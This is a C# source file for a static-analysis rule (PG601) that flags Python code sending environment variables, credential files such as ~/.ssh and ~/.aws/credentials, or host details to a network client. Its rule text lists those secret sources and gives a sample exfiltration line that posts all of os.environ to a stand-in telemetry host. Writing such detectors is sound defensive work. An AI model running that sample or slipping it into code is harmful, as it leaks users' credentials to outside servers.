using System.Collections.Immutable;
using PyGuard.Analyzers.Catalogs;
using PyGuard.Analyzers.Common;
using PyGuard.Engine.Analysis;
using PyGuard.Engine.Model;
using PyGuard.Semantics.DataFlow;
using PyGuard.Syntax.Tree;

namespace PyGuard.Analyzers.Exfil;

/// <summary>PG601: sensitive data reaching a network client.</summary>
public sealed class SensitiveDataToNetwork : Analyzer
{
    public static readonly RuleDescriptor Descriptor = Rule.Define(
        "PG601", "Sensitive data sent over the network", "sensitive data ({0}) is sent over the network by {1}{2}",
        RuleCategory.Exfil, Severity.Error, Confidence.High, 9.3, [200, 201, 359],
        whatItDoes: "Follows sensitive data through the file — the environment (`os.environ` in every form, `os.getenv`, dotenv), credential and key files (`~/.ssh`, `~/.aws/credentials`, `~/.kube/config`, `~/.netrc`, `~/.docker/config.json`, `~/.git-credentials`, `.env`, `/etc/shadow`, browser profiles, keyrings) however their path is built, host identity (user and host name, MAC address), the clipboard and the output of started processes — and reports it when it reaches a network client: requests, httpx, aiohttp, urllib.request, http.client, urllib3, sockets, smtplib, ftplib, telnetlib, paramiko (including files uploaded by path over SFTP), websockets, XML-RPC and `webbrowser.open`. The data is followed through assignments, containers, string building and encoding (f-strings, `%`, `format`, `join`, `base64`, `json.dumps`), attributes, class members, and the parameters and return values of the file's functions; the finding carries that path as a code flow. One case is a warning rather than an error: named environment variables passed only as `headers` or `auth` to an HTTPS URL written in the code, whose host is not a shady endpoint (PG604) — an API key used to call its API, which a person should still confirm belongs to that host.",
        why: "Sending secrets or host details to a remote server is the purpose of most malicious code an agent can be tricked into running: one request is enough for an attacker to hold your cloud keys or tokens. Encoding the data first (base64, JSON, hex) does not make it less sensitive.",
        example: "import os, requests\nrequests.post('https://telemetry.example.com/c', json=dict(os.environ))",
        instead: "Never send credentials, the environment or identifying host data anywhere from agent code. Send only the data the task computed, to an endpoint you chose.",
        safeExample: "import requests\nrequests.post('https://api.example.com/results', json={'rows': 42}, timeout=10)",
        "https://cwe.mitre.org/data/definitions/201.html");

    public override ImmutableArray<RuleDescriptor> SupportedRules { get; } = [Descriptor];

    public override void Initialize(AnalysisRegistration registration) =>
        registration.RegisterNodeAction(Analyze, NodeKind.ExprCall);

    /// <summary>Keyword arguments through which HTTP clients send credentials to the server they call.</summary>
    private static readonly string[] CredentialKeywords = ["headers", "auth"];

    private static void Analyze(NodeContext context)
    {
        var call = (ExprCall)context.Node;
        var model = context.Model;
        if (NetworkCalls.Find(model, call) is not { Role: not NetworkRole.Resolve } network)
        {
            return;
        }

        var taints = TaintFlows.Find(model, NetworkCalls.Arguments(call), TaintFlows.IsContent).ToList();
        if (network.UploadedPath is { } path)
        {
            // An upload by path sends the file: its path naming a credential file is enough.
            taints.AddRange(TaintFlows.Find(model, [path], s => s.Kind == SourceKind.CredentialPath));
        }

        if (taints.Count == 0)
        {
            return;
        }

        if (CredentialHost(context, call, network, taints) is { } host)
        {
            TaintFlows.Report(context, Descriptor, taints, $"{network.Function} authenticates to {host} with it", Severity.Warning,
                TaintFlows.Describe(taints), network.Function, $" as a credential for {host}: confirm that it belongs to that service");
            return;
        }

        TaintFlows.Report(context, Descriptor, taints, $"{network.Function} sends it over the network", null, TaintFlows.Describe(taints), network.Function, string.Empty);
    }

    /// <summary>
    /// The host a call authenticates to, when the only sensitive data in it are named environment
    /// variables passed as headers or auth to an HTTPS URL written in the code whose host is not a
    /// shady endpoint: an API key used for its API. Null in every other case.
    /// </summary>
    private static string? CredentialHost(NodeContext context, ExprCall call, NetworkCall network, IReadOnlyList<Taint> taints)
    {
        var model = context.Model;
        if (taints.Any(t => t.Source!.Variable is null || t.Source.Kind != SourceKind.Environment))
        {
            return null;
        }

        var elsewhere = call.Args.Select(a => a is ExprStarred s ? s.Value : a)
            .Concat(call.Keywords.Where(k => !CredentialKeywords.Contains(k.Arg)).Select(k => k.Value));
        if (TaintFlows.Find(model, elsewhere, TaintFlows.IsContent).Count > 0)
        {
            return null;
        }

        var destinations = Endpoints.Of(model, network.Endpoint).ToList();
        return destinations.Count > 0 && destinations.All(d => d.Scheme == "https" && EndpointCatalog.Find(d.Host, d.Path) is null &&
            !EndpointCatalog.IsRemoteIpLiteral(d.Host) && model.AppearsInLiteral(d.Host))
            ? destinations[0].Host
            : null;
    }
}
